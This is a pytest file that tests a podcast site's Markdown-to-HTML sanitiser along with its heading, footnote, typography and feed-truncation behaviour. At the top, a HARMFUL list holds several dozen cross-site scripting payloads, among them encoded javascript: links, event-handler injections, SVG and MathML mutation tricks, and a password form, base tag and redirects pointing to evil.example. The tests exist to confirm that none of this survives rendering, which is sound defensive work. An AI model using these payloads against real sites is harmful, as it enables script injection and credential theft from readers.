from __future__ import annotations

import html
import re

import pytest
from lxml.html import fragment_fromstring

from podstudio.article import markdown
from podstudio.article.time_links import Times

HARMFUL = [
    "<script>steal()</script>",
    "<ScRiPt src='https://evil.example/x.js'></ScRiPt>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    '<img src="x" ONERROR="steal()">',
    "<p onclick='steal()'>hello</p>",
    "<details open ontoggle=steal()>hello</details>",
    "[hello](javascript:steal())",
    "[hello](JaVaScRiPt:steal())",
    "[hello](java&#115;cript:steal())",
    "[hello](&#x6A;avascript:steal())",
    "[hello](javascript&colon;steal())",
    "[hello](vbscript:steal())",
    "[hello](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "[hello]: javascript:steal()\n\n[hello]",
    "<javascript:steal()>",
    '<a href="java\tscript:steal()">hello</a>',
    '<a href=" &#14; javascript:steal()">hello</a>',
    "<a href='%6Aavascript:steal()'>hello</a>",
    "![hello](javascript:steal())",
    "<svg onload=steal()><script>steal()</script></svg>",
    "<svg><a xlink:href='javascript:steal()'>hello</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "<style>body { background: url('javascript:steal()') }</style>",
    "<p style=\"background: url('javascript:steal()')\">hello</p>",
    "<form action='https://evil.example/'><input name=password><button>Go</button></form>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<!--<img src=x onerror=steal()>-->",
    "<a href='#t=1' data-seconds='x' class='keep said' onclick=steal()>0:01</a>",
    '[x](#t=1"onclick="steal\\(\\))',
]
"""What could run in a reader's browser, send what they type elsewhere, or change the page around it."""

_HARMLESS_TAGS = markdown._TAGS | {"div"}


@pytest.mark.parametrize("text", HARMFUL)
@pytest.mark.parametrize("times", [None, lambda second: second + 5])
def test_nothing_that_could_run_is_left(text: str, times: Times | None) -> None:
    for made in (markdown.to_html(text, times), markdown.to_html(f"- {text}\n\n> {text}\n\n| a |\n|---|\n| {text} |\n", times)):
        root = fragment_fromstring(made, create_parent="div")
        for element in root.iter("*"):
            assert element.tag in _HARMLESS_TAGS, made
            assert not [name for name in element.attrib if name.startswith("on") or name in ("style", "srcdoc", "srcset", "formaction")], made
            for name in ("href", "src"):
                address = html.unescape(element.get(name) or "").strip().lower()
                assert re.match(r"https?:|mailto:|tel:|(?![a-z][a-z0-9+.-]*:)", address), made
        assert "hello" not in text or "hello" in "".join(root.itertext()) or "svg" in text or "![hello" in text


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_that_could_run_reaches_a_feeds_description(text: str) -> None:
    root = fragment_fromstring(markdown.feed_html(text), create_parent="div")
    assert {str(element.tag) for element in root.iter("*")} <= {"div", "p", "ol", "ul", "li", "a", "b", "i", "strong", "em", "br"}
    assert all(set(element.attrib) <= {"href"} for element in root.iter("*"))
    assert all(re.match(r"https?:|mailto:", element.get("href", "https:")) for element in root.iter("a"))


def test_an_article_cannot_dress_up_as_a_part_of_the_page() -> None:
    assert markdown.to_html('`a class="" b`') == '<p><code>a class="" b</code></p>\n'
    assert "class" not in markdown.to_html("<div class='said'>x</div>\n\n<a class='keep' href='https://a.example'>y</a>")


def test_tables_and_footnotes_come_out_whole() -> None:
    made = markdown.to_html("| a | b |\n|:--|--:|\n| 1 | **2** |\n\nSaid[^1] twice[^1].\n\n[^1]: By *her*.\n")
    assert "<table>" in made
    assert "<strong>2</strong>" in made
    root = fragment_fromstring(made, create_parent="div")
    ids = [element.get("id") for element in root.iter("*") if element.get("id")]
    assert len(ids) == len(set(ids))
    for link in root.iter("a"):
        assert (link.get("href") or "").removeprefix("#") in ids


def test_headings_begin_at_h2_and_keep_their_steps() -> None:
    made = markdown.to_html("# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n")
    assert re.findall(r"<(h\d)", made) == ["h2", "h3", "h4", "h5", "h6", "h6"]
    assert re.findall(r"<(h\d)", markdown.to_html("### Only\n\n#### Below\n")) == ["h2", "h3"]


def test_headings_have_ids_of_their_own() -> None:
    made = markdown.to_html("## Why?\n\n## Why!\n\n## 为什么\n\n## ¿?\n")
    assert re.findall(r'id="([^"]*)"', made) == ["why", "why-2", "section", "section-2"]


def test_two_texts_on_one_page_share_no_id() -> None:
    text = "## Why?\n\nSaid[^1].\n\n[^1]: So.\n"
    ids = [set(re.findall(r'id="([^"]*)"', markdown.to_html(text, prefix=prefix))) for prefix in ("", "notes-")]
    assert not ids[0] & ids[1]


def test_quotes_dashes_and_dots_are_set_well() -> None:
    assert markdown.to_html('"It\'s" -- so...') == "<p>“It’s” – so…</p>\n"
    assert "&quot;x&quot; -- y" in markdown.to_html('`"x" -- y`') or '"x" -- y' in markdown.to_html('`"x" -- y`')


def test_plain_text_has_the_words_alone() -> None:
    text = '# Head\n\nA *word* &amp; a [link](https://a.example) `code`[^1].\n\n- one\n- two\n\n[^1]: Foot <b onclick="x">note</b>.\n'
    assert markdown.plain_text(text).split("\n\n")[0] == "Head"
    assert "A word & a link code[1]." in markdown.plain_text(text)
    assert "<" not in markdown.plain_text(text)
    assert "↩" not in markdown.plain_text(text)
    assert markdown.plain_text("   \n") == ""


@pytest.mark.parametrize("text", ["*a* _b_ `c` #d [e](f) <g> !h| i~j~ \\k", "1 < 2 & 3 > 2", "# not a heading"])
def test_escaped_text_comes_through_as_it_is(text: str) -> None:
    assert markdown.plain_text(markdown.escape(text)) == text


def test_a_description_that_fits_is_left_whole() -> None:
    assert markdown.feed_html("Hello **you**.\n\n- one\n- two") == "<p>Hello <strong>you</strong>.</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>"


def test_a_long_description_is_cut_between_paragraphs_and_keeps_its_time_stamps() -> None:
    text = "\n\n".join(f"Paragraph {number} with *words* & “signs” in it." for number in range(300))
    made = markdown.feed_html(text, ending="00:00:00 Welcome  \n00:01:02 Why & how")
    assert 3700 < len(made.encode()) <= 4000
    assert made.endswith("<p>00:00:00 Welcome<br>\n00:01:02 Why &amp; how</p>")
    assert made.count("<p>") == made.count("</p>")
    assert "in it.</p>\n<p>00:00:00" in made


def test_a_long_list_is_closed_where_it_is_cut() -> None:
    made = markdown.feed_html("\n".join(f"{number}. entry number {number} of a long list" for number in range(1, 300)))
    assert len(made.encode()) <= 4000
    assert made.endswith("</ol>")
    assert made.count("<li>") == made.count("</li>")


@pytest.mark.parametrize("word", ["word ", "слово ", "🎙️ ", "a&b "])
def test_one_endless_paragraph_is_cut_at_a_word(word: str) -> None:
    made = markdown.feed_html(word * 4000)
    assert 2000 < len(made.encode()) <= 4000
    assert made.endswith("…</p>")


def test_an_endless_list_of_chapters_loses_its_last_ones_and_leaves_room_for_the_text() -> None:
    stamps = "  \n".join(f"{number // 60:02}:{number % 60:02}:00 A chapter with a rather long title, number {number}" for number in range(400))
    made = markdown.feed_html("Hello.", ending=stamps)
    assert made.startswith("<p>Hello.</p>\n<p>00:00:00 A chapter")
    assert len(made.encode()) <= 4000
    assert made.endswith("</p>")


def test_headings_and_links_into_the_page_are_told_plainly_in_a_description() -> None:
    made = markdown.feed_html("## Why\n\nSee [there](#why), [0:20](#t=20) and [them](https://a.example/?a=1&b=2).")
    assert made == '<p><b>Why</b></p>\n<p>See there, 0:20 and <a href="https://a.example/?a=1&amp;b=2">them</a>.</p>'


def test_pictures_of_the_folder_get_their_names_on_the_site_and_others_are_left_out() -> None:
    text = '![a](one.png "Title") ![b](<two words.jpg>) ![c](../secret.png) ![d](https://a.example/x.png)'
    renamed = markdown.with_pictures(text, {"one.png": "picture-1.png", "two words.jpg": "picture-2.jpg"})
    assert renamed == '![a](picture-1.png "Title") ![b](picture-2.jpg) c [d](https://a.example/x.png)'
    assert markdown.images(text) == ("one.png", "two words.jpg", "../secret.png")
    assert markdown.remote_images(text) == ("https://a.example/x.png",)


def test_reading_takes_at_least_a_minute() -> None:
    assert markdown.reading_minutes("One word.") == 1
    assert markdown.reading_minutes("word " * 1100) == 5
